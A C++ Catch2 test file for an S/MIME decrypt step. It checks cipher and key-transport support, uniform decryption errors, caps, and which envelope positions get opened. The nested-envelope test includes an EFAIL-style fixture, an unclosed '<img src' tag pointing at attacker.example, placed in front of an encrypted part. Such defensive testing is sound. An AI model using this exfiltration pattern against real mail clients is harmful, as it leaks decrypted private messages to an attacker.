// The decrypt step (smime/decryptor.hpp): messages encrypted by the OpenSSL
// CLI (an independent implementation) are found and opened only at the
// message's root (DEC-01), by issuer and serial or subject key identifier
// (DEC-04), for RSA PKCS#1 v1.5, RSA-OAEP and ECDH, CBC and GCM; every
// failure is one error with one text (DEC-03); caps are message_too_large.
#include <catch2/catch.hpp>

#include <fcntl.h>
#include <unistd.h>

#include "external_verifiers.hpp"
#include "smime/decryptor.hpp"
#include "smime/verifier.hpp"
#include "test_support.hpp"

using namespace segel;
using namespace segel::test;

namespace {

const std::string k_outer = "From: Mitra <mitra@mitra.example>\r\nTo: Alice <alice@tangerangkota.go.id>\r\n"
                            "Subject: Rahasia\r\nMessage-ID: <enc-1@mitra.example>\r\n";
const std::string k_entity = crlf("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
                                  "Laporan keuangan terlampir.\n");

smime::DecryptionCredential credential_of(const std::string& user) {
    const auto& identity = demo_identity(user);
    return {identity.certificate(), identity.shared_private_key()};
}

smime::Envelope envelope_of(const smime::MimeEntity& message, const smime::EnvelopeLimits& limits = {}) {
    auto envelope = smime::find_envelope(message, limits);
    INFO((envelope ? std::string() : envelope.error().detail));
    REQUIRE(envelope.has_value());
    return std::move(envelope).value();
}

// Opens `message` with the users' keys; the decrypted message as text.
std::string opened(const std::string& message, const std::vector<std::string>& users) {
    const auto entity = entity_of(message);
    const auto envelope = envelope_of(entity);
    REQUIRE(envelope.place == smime::EnvelopePlace::root);
    std::vector<smime::DecryptionCredential> credentials;
    for (const auto& user : users)
        credentials.push_back(credential_of(user));
    TempDir dir;
    auto decrypted = smime::decrypt(entity, envelope, credentials, dir.path());
    INFO((decrypted ? std::string() : decrypted.error().detail));
    REQUIRE(decrypted.has_value());
    return entity_text(decrypted->entity);
}

smime::Error failure_of(const std::string& message, const std::string& user) {
    const auto entity = entity_of(message);
    const auto envelope = envelope_of(entity);
    TempDir dir;
    auto decrypted = smime::decrypt(entity, envelope, {credential_of(user)}, dir.path());
    REQUIRE_FALSE(decrypted.has_value());
    return decrypted.error();
}

} // namespace

TEST_CASE("decrypt: a root EnvelopedData (AES-256-CBC, RSA PKCS#1 v1.5) opens, the outer fields stay (DEC-01, "
          "RFC 8551 3.3)",
          "[smime][decrypt]") {
    const std::string message = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"});
    const auto envelope = envelope_of(entity_of(message));
    CHECK(envelope.place == smime::EnvelopePlace::root);
    CHECK(envelope.kind == smime::EnvelopeKind::enveloped);
    CHECK_FALSE(envelope.integrity_protected());
    CHECK(envelope.cipher == "AES-256-CBC");
    REQUIRE(envelope.recipients.size() == 1);
    const auto alice = demo_identity("alice-enc").certificate();
    CHECK(envelope.recipients[0].issuer == alice.issuer());
    CHECK(envelope.recipients[0].serial == alice.serial_hex());

    const std::string text = opened(message, {"alice-enc"});
    const std::string header = text.substr(0, text.find("\r\n\r\n"));
    CHECK_THAT(header, Catch::Contains("From: Mitra <mitra@mitra.example>\r\n"));
    CHECK_THAT(header, Catch::Contains("Subject: Rahasia"));
    CHECK_THAT(header, Catch::Contains("Content-Type: text/plain; charset=utf-8"));
    CHECK_THAT(header, !Catch::Contains("pkcs7-mime"));
    CHECK_THAT(header, !Catch::Contains("smime.p7m"));
    CHECK_THAT(text, Catch::EndsWith("\r\n\r\nLaporan keuangan terlampir.\r\n"));
}

TEST_CASE("decrypt: AES-256-GCM AuthEnvelopedData, RSA-OAEP, ECDH and subject key identifiers open (DEC-02, DEC-04, "
          "RFC 5083, RFC 5753)",
          "[smime][decrypt]") {
    const std::string gcm = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"}, {"-aes-256-gcm"});
    const auto gcm_envelope = envelope_of(entity_of(gcm));
    CHECK(gcm_envelope.kind == smime::EnvelopeKind::auth_enveloped);
    CHECK(gcm_envelope.integrity_protected());
    CHECK(gcm_envelope.cipher == "id-aes256-GCM");
    CHECK_THAT(opened(gcm, {"alice-enc"}), Catch::Contains("Laporan keuangan terlampir."));

    const std::string oaep = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"},
                                                       {"-aes256", "-keyopt", "rsa_padding_mode:oaep"});
    CHECK_THAT(opened(oaep, {"alice-enc"}), Catch::Contains("Laporan keuangan terlampir."));

    const std::string ecdh = openssl_encrypted_message(k_outer, k_entity, {"alice-enc", "bambang-enc"});
    const auto ecdh_envelope = envelope_of(entity_of(ecdh));
    REQUIRE(ecdh_envelope.recipients.size() == 2);
    CHECK(ecdh_envelope.recipients[1].serial == demo_identity("bambang-enc").certificate().serial_hex());
    CHECK_THAT(opened(ecdh, {"bambang-enc"}), Catch::Contains("Laporan keuangan terlampir."));

    const std::string by_key_id = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"}, {"-aes256", "-keyid"});
    const auto ski_envelope = envelope_of(entity_of(by_key_id));
    REQUIRE(ski_envelope.recipients.size() == 1);
    CHECK(ski_envelope.recipients[0].issuer.empty());
    CHECK(ski_envelope.recipients[0].subject_key_id == demo_identity("alice-enc").certificate().subject_key_identifier_hex());
    CHECK_THAT(opened(by_key_id, {"alice-enc"}), Catch::Contains("Laporan keuangan terlampir."));
}

TEST_CASE("decrypt: a signed entity inside is released as it was, and its signature verifies (DEC-06, sign-then-encrypt)",
          "[smime][decrypt]") {
    const std::string signed_message =
        sign_to_text(crlf("From: Alice <alice@tangerangkota.go.id>\nTo: Budi <budi@tangerangkota.go.id>\n"
                          "Subject: Rahasia\nMIME-Version: 1.0\n") + k_entity,
                     demo_identity("alice"));
    const std::string entity = signed_message.substr(signed_message.find("Content-Type: multipart/signed"));
    const std::string message = openssl_encrypted_message(
        "From: Alice <alice@tangerangkota.go.id>\r\nTo: Budi <budi@tangerangkota.go.id>\r\nSubject: Rahasia\r\n",
        entity, {"alice-enc"});
    const std::string text = opened(message, {"alice-enc"});
    auto spooled = spool_text(text);
    REQUIRE(spooled.has_value());
    auto anchors = smime::TrustStore::load_pem_file(pki_file("root.pem").string());
    REQUIRE(anchors.has_value());
    auto report = smime::verify_message(*spooled, *anchors);
    REQUIRE(report.has_value());
    INFO(report->reason);
    CHECK(report->verdict == smime::Verdict::pass);
}

TEST_CASE("decrypt: every failure is one error with one text: wrong key, bad GCM tag, damaged or malformed CMS (DEC-03)",
          "[smime][decrypt]") {
    const std::string cbc = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"});
    const std::string gcm = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"}, {"-aes-256-gcm"});
    std::vector<smime::Error> failures;
    failures.push_back(failure_of(cbc, "bambang-enc")); // an EC key for an RSA RecipientInfo
    failures.push_back(failure_of(cbc, "alice-old"));   // another RSA key: the random content key
    failures.push_back(failure_of(with_enveloped_byte_flipped(gcm, 8), "alice-enc")); // the GCM tag
    // Not a CMS object at all, though labelled enveloped-data.
    const std::size_t body = cbc.find("\r\n\r\n") + 4;
    failures.push_back(failure_of(cbc.substr(0, body) + "bm90IGEgQ01TIG9iamVjdA==\r\n", "alice-enc"));
    for (const auto& failure : failures) {
        CHECK(failure.kind == smime::ErrorKind::decryption_failed);
        CHECK(failure.detail == smime::k_cannot_decrypt);
    }
}

TEST_CASE("decrypt: an encrypted object inside a container is nested and never opened (DEC-01, EFAIL)",
          "[smime][decrypt]") {
    const std::string encrypted = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"});
    const std::string encrypted_part = encrypted.substr(encrypted.find("MIME-Version"));
    const std::string mixed =
        k_outer + crlf("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b1\"\n\n--b1\n"
                       "Content-Type: text/html\n\n<img src=\"http://attacker.example/\n--b1\n") +
        encrypted_part.substr(encrypted_part.find("Content-")) + crlf("\n--b1--\n");
    CHECK(envelope_of(entity_of(mixed)).place == smime::EnvelopePlace::nested);

    const std::string forwarded =
        k_outer + crlf("MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b2\"\n\n--b2\n"
                       "Content-Type: text/plain\n\nSee below.\n--b2\nContent-Type: message/rfc822\n\n") +
        encrypted + crlf("\n--b2--\n");
    CHECK(envelope_of(entity_of(forwarded)).place == smime::EnvelopePlace::nested);

    const std::string plain = k_outer + crlf("MIME-Version: 1.0\n") + k_entity;
    CHECK(envelope_of(entity_of(plain)).place == smime::EnvelopePlace::none);
}

TEST_CASE("decrypt: an envelope directly inside signature layers (encrypt-then-sign) is opened (DEC-01)",
          "[smime][decrypt]") {
    const std::string encrypted = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"});
    const std::string part = encrypted.substr(encrypted.find("Content-", encrypted.find("MIME-Version")));
    for (const std::string& message : {k_outer + openssl_detached_signed(part, {"alice"}),
                                       k_outer + openssl_opaque_signed(part, {"alice"})}) {
        const auto envelope = envelope_of(entity_of(message));
        CHECK(envelope.place == smime::EnvelopePlace::under_signature);
        CHECK(envelope.signature_layers == 1);
        CHECK(envelope.openable());
        const auto entity = entity_of(message);
        TempDir dir;
        auto decrypted = smime::decrypt(entity, envelope, {credential_of("alice-enc")}, dir.path());
        REQUIRE(decrypted.has_value());
        const std::string text = entity_text(decrypted->entity);
        CHECK_THAT(text, Catch::EndsWith("\r\n\r\nLaporan keuangan terlampir.\r\n"));
        CHECK_THAT(text, !Catch::Contains("multipart/signed") && !Catch::Contains("pkcs7"));
    }
}

TEST_CASE("decrypt: the CMS content type decides, not the smime-type label", "[smime][decrypt]") {
    std::string mislabelled = openssl_encrypted_message(k_outer, k_entity, {"alice-enc"});
    const auto label = mislabelled.find("smime-type=enveloped-data");
    REQUIRE(label != std::string::npos);
    mislabelled.replace(label, 25, "smime-type=signed-data");
    CHECK(envelope_of(entity_of(mislabelled)).place == smime::EnvelopePlace::root);

    const std::string opaque = k_outer + openssl_opaque_signed(k_entity, {"alice"});
    std::string claims_enveloped = opaque;
    const auto signed_label = claims_enveloped.find("smime-type=signed-data");
    REQUIRE(signed_label != std::string::npos);
    claims_enveloped.replace(signed_label, 22, "smime-type=enveloped-data");
    CHECK(envelope_of(entity_of(claims_enveloped)).place == smime::EnvelopePlace::none);
}

TEST_CASE("decrypt: more RecipientInfos than allowed is over a cap (DEC-03, SM-16)", "[smime][decrypt]") {
    const std::string message = openssl_encrypted_message(k_outer, k_entity, {"alice-enc", "mitra", "alice-old"});
    smime::EnvelopeLimits limits;
    limits.max_recipient_infos = 2;
    auto envelope = smime::find_envelope(entity_of(message), limits);
    REQUIRE_FALSE(envelope.has_value());
    CHECK(envelope.error().kind == smime::ErrorKind::message_too_large);
    limits.max_recipient_infos = 3;
    CHECK(smime::find_envelope(entity_of(message), limits).has_value());
}
